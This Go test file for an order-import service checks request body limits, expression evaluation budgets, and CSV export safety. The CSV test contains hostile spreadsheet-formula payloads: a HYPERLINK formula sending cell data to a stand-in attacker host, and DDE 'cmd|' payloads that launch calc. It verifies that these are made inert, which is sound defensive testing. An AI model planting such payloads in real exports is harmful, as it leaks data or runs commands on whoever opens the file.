package app_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"orderimport/internal/crmemu"
)

// Request bodies are bounded: the API answers 413 past 1 MiB, the UI refuses a form past its
// bound without touching anything.
func TestRequestBodyLimits(t *testing.T) {
	e := newSecEnv(t, secOpts{allowPrivate: true})
	huge := `{"name":"` + strings.Repeat("я", 600_000) + `"}`
	for _, path := range []string{"/api/v1/counters", "/api/v1/retailcrm/check", "/api/v1/imports/preview", "/api/v1/counters/1/imports"} {
		st, body := e.api("POST", path, e.token, huge)
		var ae apiErr
		_ = json.Unmarshal([]byte(body), &ae)
		if st != http.StatusRequestEntityTooLarge || ae.Error.Code != "body_too_large" {
			t.Errorf("POST %s with 1.2 MB: %d %.200s", path, st, body)
		}
	}
	if st, body := e.api("POST", "/api/v1/counters", e.token, `{"name":"`+strings.Repeat("x", 1<<19)+`"}`); st != 422 {
		t.Errorf("half a megabyte is read and judged on its merits: %d %.200s", st, body)
	}
	b := e.login(ownerEmail, ownerPassword)
	st, _, _ := b.post("/counters", url.Values{"name": {strings.Repeat("x", 2<<20)}})
	if st < 400 {
		t.Errorf("a 2 MB form: %d", st)
	}
	if cs, _ := e.app.Store.Counters(context.Background(), e.acc); len(cs) != 0 {
		t.Errorf("the oversized form created a counter")
	}
}

// Mapping expressions are bounded when saved (length, syntax nodes) and when evaluated (steps,
// memory): through the API, an expensive expression gives every order an issue instead of
// holding a worker, and the run still ends.
func TestExpressionBudgetsThroughTheAPI(t *testing.T) {
	e := newSecEnv(t, secOpts{allowPrivate: true, emu: crmemu.Options{Seed: 9, Orders: 10}})
	st, body := e.api("POST", "/api/v1/counters", e.token, `{"name":"Shop"}`)
	var counter struct{ ID int64 }
	_ = json.Unmarshal([]byte(body), &counter)
	create := func(expr string) (int, string) {
		return e.api("POST", fmt.Sprintf("/api/v1/counters/%d/imports", counter.ID), e.token, jsonOf(map[string]any{"name": "x", "active": false,
			"retailcrm": map[string]any{"url": e.crm, "api_key": crmemu.DemoKey}, "mapping": map[string]any{"comment": expr}}))
	}
	for name, expr := range map[string]string{
		"too long":       "number + '" + strings.Repeat("a", 5000) + "'",
		"too many nodes": strings.Repeat("1 + ", 600) + "1",
	} {
		st, body := create(expr)
		var ae apiErr
		_ = json.Unmarshal([]byte(body), &ae)
		if st != 422 || ae.Error.Field != "mapping.comment" {
			t.Errorf("%s: %d %.300s", name, st, body)
		}
	}
	costly := "string(count(1..100000, count(1..100000, # > 0) > 0))"
	start := time.Now()
	st, body = e.api("POST", "/api/v1/imports/preview", e.token, jsonOf(map[string]any{"counter_id": counter.ID, "limit": 5,
		"retailcrm": map[string]any{"url": e.crm, "api_key": crmemu.DemoKey}, "mapping": map[string]any{"comment": costly}}))
	if st != 200 || !strings.Contains(body, "budget") {
		t.Fatalf("preview with a costly expression: %d %.500s", st, body)
	}
	if d := time.Since(start); d > 30*time.Second {
		t.Errorf("the preview took %v: the budget does not bound the work", d)
	}
	st, body = create(costly)
	if st != 201 {
		t.Fatalf("a costly expression within the compile limits is saved: %d %s", st, body)
	}
	var task struct{ ID int64 }
	_ = json.Unmarshal([]byte(body), &task)
	st, body = e.api("POST", fmt.Sprintf("/api/v1/imports/%d/runs", task.ID), e.token, "")
	var run secRun
	_ = json.Unmarshal([]byte(body), &run)
	if r := e.waitRun(run.ID); r.Status != "succeeded_with_warnings" {
		t.Errorf("run with a costly comment expression: %+v", r)
	}
}

// The CSV export of orders whose text came from RetailCRM: formulas are made inert, and
// commas, quotes and line breaks stay inside their cells.
func TestCSVExportIsSafe(t *testing.T) {
	e := newSecEnv(t, secOpts{allowPrivate: true, emu: crmemu.Options{Seed: 10, Orders: 8}})
	ids := e.emu.OrderIDs(crmemu.DemoKey)
	hostile := []string{
		"Позвонить, \"домофон\" 12\nвторая строка",
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
	}
	for i, id := range ids {
		v := hostile[i%len(hostile)]
		if err := e.emu.UpdateOrder(id, crmemu.Change{Field: "customer_comment", Value: v}, crmemu.Change{Field: "last_name", Value: v}); err != nil {
			t.Fatal(err)
		}
	}
	st, body := e.api("POST", "/api/v1/counters", e.token, `{"name":"Shop"}`)
	var counter struct{ ID int64 }
	_ = json.Unmarshal([]byte(body), &counter)
	st, body = e.api("POST", fmt.Sprintf("/api/v1/counters/%d/imports", counter.ID), e.token, jsonOf(map[string]any{"name": "x",
		"retailcrm": map[string]any{"url": e.crm, "api_key": crmemu.DemoKey}, "mapping": map[string]any{"comment": "customerComment", "contact_name": "lastName"}}))
	if st != 201 {
		t.Fatalf("task: %d %s", st, body)
	}
	var task struct{ ID int64 }
	_ = json.Unmarshal([]byte(body), &task)
	e.lastRun(task.ID)
	st, text := e.api("GET", fmt.Sprintf("/api/v1/counters/%d/orders?format=csv", counter.ID), e.token, "")
	if st != 200 {
		t.Fatalf("csv: %d", st)
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("the export does not parse as CSV: %v", err)
	}
	if len(rows) != len(ids)+1 {
		t.Fatalf("%d rows for %d orders: a value broke out of its cell", len(rows)-1, len(ids))
	}
	seen := 0
	for _, r := range rows[1:] {
		comment, name := r[7], r[8]
		for _, cell := range []string{comment, name} {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell starts a formula: %q", cell)
			}
		}
		for _, v := range hostile[:min(len(hostile), len(ids))] {
			// The comment normaliser trims surrounding white space first.
			if strings.ContainsRune("=+-@\t\r", rune(v[0])) && (comment == "'"+v || comment == "'"+strings.TrimSpace(v)) {
				seen++
			}
			if strings.HasPrefix(v, "Позвонить") && comment == v {
				seen++
			}
		}
	}
	if seen < len(ids) {
		for _, r := range rows[1:] {
			t.Logf("comment %q name %q", r[7], r[8])
		}
		t.Errorf("%d hostile comments came back (made inert or intact), want %d", seen, len(ids))
	}
}
